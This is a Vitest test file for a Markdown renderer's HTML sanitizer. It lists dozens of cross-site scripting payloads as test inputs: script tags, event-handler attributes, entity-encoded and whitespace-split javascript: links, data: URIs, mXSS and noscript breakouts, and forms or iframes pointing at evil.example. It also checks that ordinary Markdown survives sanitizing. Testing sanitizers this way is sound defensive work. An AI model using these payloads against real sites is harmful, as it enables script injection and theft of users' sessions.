import { describe, expect, it } from "vitest";
import { setAllowedImageHosts } from "~/utils/image-hosts.server";
import { renderMarkdown } from "~/utils/markdown.server";

const ALLOWED_TAGS = new Set(
  "h1 h2 h3 h4 h5 h6 p br hr blockquote pre code span ul ol li strong em del s a img table thead tbody tr th td input sup sub details summary kbd".split(" "),
);

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n")
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** Every element in sanitized output, with attribute values decoded the way a browser would. */
function elements(html: string) {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g)].map((m) => ({
    tag: m[1].toLowerCase(),
    attrs: Object.fromEntries(
      [...m[2].matchAll(/([^\s"'=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map((a) => [
        a[1].toLowerCase(),
        decode(a[2] ?? a[3] ?? a[4] ?? ""),
      ]),
    ),
  }));
}

/** The scheme a browser would see: it strips control characters and whitespace before reading it. */
function scheme(url: string): string | null {
  const m = url.replace(/[\u0000-\u0020]/g, "").match(/^([a-z][a-z0-9+.-]*):/i);
  return m ? m[1].toLowerCase() : null;
}

function expectSafe(html: string) {
  for (const el of elements(html)) {
    expect(ALLOWED_TAGS, `<${el.tag}> in ${html}`).toContain(el.tag);
    for (const [name, value] of Object.entries(el.attrs)) {
      expect(name, `attribute ${name} in ${html}`).not.toMatch(/^(on|style$|srcdoc$|formaction$|xlink)/);
      if (name === "href") expect([null, "http", "https", "mailto"], `href ${value}`).toContain(scheme(value));
      if (name === "src") expect([null, "http", "https"], `src ${value}`).toContain(scheme(value));
    }
    if (el.tag === "input") expect(el.attrs).toMatchObject({ type: "checkbox", disabled: "" });
  }
}

describe("renderMarkdown removes what could run script", () => {
  it.each([
    ["script tag", "<script>alert(1)</script>"],
    ["script tag, upper case", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"],
    ["script inside a paragraph", "hello <script>alert(1)</script> world"],
    ["img onerror", "<img src=x onerror=alert(1)>"],
    ["img onerror, mixed case and quotes", `<IMG SRC="x" OnError='alert(1)'>`],
    ["img onerror on the next line", "<img src=x\nonerror=alert(1)>"],
    ["img onerror, self-closing", "<img src=x onerror=alert(1)//>"],
    ["a onclick", `<a href="https://example.com" onclick="alert(1)">x</a>`],
    ["body onload", "<body onload=alert(1)>"],
    ["div onmouseover", `<div onmouseover="alert(1)">hover</div>`],
    ["details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>x</details>"],
    ["svg onload", "<svg onload=alert(1)>"],
    ["svg with script", "<svg><script>alert(1)</script></svg>"],
    ["iframe", `<iframe src="https://evil.example"></iframe>`],
    ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
    ["object", `<object data="https://evil.example/x.swf"></object>`],
    ["embed", `<embed src="https://evil.example/x.swf">`],
    ["style element", "<style>body { background: url(javascript:alert(1)) }</style>"],
    ["style attribute", `<p style="background:url(javascript:alert(1))">x</p>`],
    ["markdown javascript: link", "[x](javascript:alert(1))"],
    ["markdown javascript: link, mixed case", "[x](JaVaScRiPt:alert(1))"],
    ["markdown javascript: link in angle brackets", "[x](<javascript:alert(1)>)"],
    ["javascript: autolink", "<javascript:alert(1)>"],
    ["reference-style javascript: link", "[x][1]\n\n[1]: javascript:alert(1)"],
    ["html javascript: link", `<a href="javascript:alert(1)">x</a>`],
    ["decimal entity-encoded javascript:", "[x](&#106;avascript:alert(1))"],
    ["hex entity-encoded javascript:", `<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>`],
    ["entity-encoded colon", `<a href="javascript&colon;alert(1)">x</a>`],
    ["tab inside the scheme", `<a href="java\tscript:alert(1)">x</a>`],
    ["newline entity inside the scheme", `<a href="java&#10;script:alert(1)">x</a>`],
    ["leading spaces and control characters", `<a href=" \u0001javascript:alert(1)">x</a>`],
    ["data: link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
    ["data: image in html", `<img src="data:image/png;base64,AAAA">`],
    ["vbscript: link", "[x](vbscript:msgbox(1))"],
    ["form with inputs", `<form action="https://evil.example"><input type="text" name="q"><input type="submit"></form>`],
    ["button formaction", `<button formaction="javascript:alert(1)">go</button>`],
    ["password input", `<input type="password" name="p">`],
    ["hidden checkbox with handler", `<input type="checkbox" onclick="alert(1)">`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`],
    ["base href", `<base href="https://evil.example/">`],
    ["link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
    ["math mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
    ["noscript breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ])("%s", (_, md) => {
    const html = renderMarkdown(md);
    expectSafe(html);
    expect(html).not.toMatch(/<(script|iframe|object|embed|style|svg|form|button|meta|base|link|math)\b/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  });

  it("drops script content entirely rather than leaving it as text", () => {
    expect(renderMarkdown("<script>alert('pwned')</script>")).not.toContain("pwned");
  });

  it("keeps the text of a disarmed link", () => {
    expect(renderMarkdown("[click me](javascript:alert(1))")).toBe(
      '<p><a rel="noopener noreferrer nofollow">click me</a></p>\n',
    );
  });
});

describe("renderMarkdown keeps ordinary Markdown", () => {
  it("headings, emphasis and inline code", () => {
    const html = renderMarkdown("# Impact\n\n## Timeline\n\nWe **paused** the *canary* and ran `kubectl rollout undo`.");
    expect(html).toContain("<h1>Impact</h1>");
    expect(html).toContain("<h2>Timeline</h2>");
    expect(html).toContain("<strong>paused</strong>");
    expect(html).toContain("<em>canary</em>");
    expect(html).toContain("<code>kubectl rollout undo</code>");
  });

  it("tables with alignment", () => {
    const html = renderMarkdown("| metric | before | after |\n|---|:-:|--:|\n| CTR | 4.1% | 3.8% |");
    expect(html).toContain("<th>metric</th>");
    expect(html).toContain('<th align="center">before</th>');
    expect(html).toContain('<td align="right">3.8%</td>');
  });

  it("fenced code keeps its language class and shows HTML as text", () => {
    const html = renderMarkdown("```python\nif drift > 0.2:\n    print('<script>')\n```");
    expect(html).toContain('<pre><code class="language-python">if drift &gt; 0.2:');
    expect(html).toContain("&lt;script&gt;");
    expect(renderMarkdown(`<pre><code class="evil language-x">y</code></pre>`)).toContain('<code class="language-x">');
  });

  it("task lists become disabled checkboxes", () => {
    const html = renderMarkdown("- [x] roll back\n- [ ] add drift alert");
    expect(html).toContain('<li><input type="checkbox" disabled checked /> roll back</li>');
    expect(html).toContain('<li><input type="checkbox" disabled /> add drift alert</li>');
  });

  it("https and mailto links, with rel added", () => {
    expect(renderMarkdown("[runbook](https://wiki.example.com/runbooks/ranking?x=1&y=2)")).toBe(
      '<p><a href="https://wiki.example.com/runbooks/ranking?x=1&amp;y=2" rel="noopener noreferrer nofollow">runbook</a></p>\n',
    );
    expect(renderMarkdown("<mailto:oncall@example.com>")).toContain('href="mailto:oncall@example.com"');
    expect(renderMarkdown("[up](/incidents/3)")).toContain('href="/incidents/3"');
  });

  it("https images from an allowed image host, and from this server", () => {
    setAllowedImageHosts(["grafana.example.com", "*.dash.example.org"]);
    try {
      expect(renderMarkdown("![latency](https://grafana.example.com/p99.png)")).toContain(
        '<img src="https://grafana.example.com/p99.png" alt="latency" />',
      );
      expect(renderMarkdown("![q](https://eu.dash.example.org/q.png)")).toContain('<img src="https://eu.dash.example.org/q.png"');
      expect(renderMarkdown("![apex](https://dash.example.org/q.png)")).not.toContain("<img");
      expect(renderMarkdown("![plain](http://grafana.example.com/p99.png)")).not.toContain("<img");
      expect(renderMarkdown("![port](https://grafana.example.com:8443/p99.png)")).not.toContain("<img");
    } finally {
      setAllowedImageHosts([]);
    }
    expect(renderMarkdown("![local](/assets/diagram.png)")).toContain('<img src="/assets/diagram.png" alt="local" />');
  });

  it("images from any other host become links that load nothing", () => {
    expect(renderMarkdown("![latency](https://grafana.example.com/p99.png)")).toBe(
      '<p><a href="https://grafana.example.com/p99.png" rel="noopener noreferrer nofollow" title="Image from a host not allowed in Settings, not loaded">latency</a></p>\n',
    );
    for (const src of ["https://tracker.example/p.gif", " https://tracker.example/p.gif", "\thttps://tracker.example/p.gif", "HTTPS://tracker.example/p.gif", "https:\\tracker.example/p.gif", "//tracker.example/p.gif", "/\\tracker.example/p.gif"]) {
      expect(renderMarkdown(`<img src="${src}">`)).not.toMatch(/<img[^>]+tracker/);
    }
  });

  it("lists, quotes, rules and details", () => {
    const html = renderMarkdown("1. one\n2. two\n\n> quoted\n\n---\n\n<details><summary>Logs</summary>\n\nsnip\n\n</details>");
    expect(html).toMatch(/<ol>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ol>/);
    expect(html).toMatch(/<blockquote>\s*<p>quoted<\/p>\s*<\/blockquote>/);
    expect(html).toContain("<hr />");
    expect(html).toContain("<details><summary>Logs</summary>");
  });
});
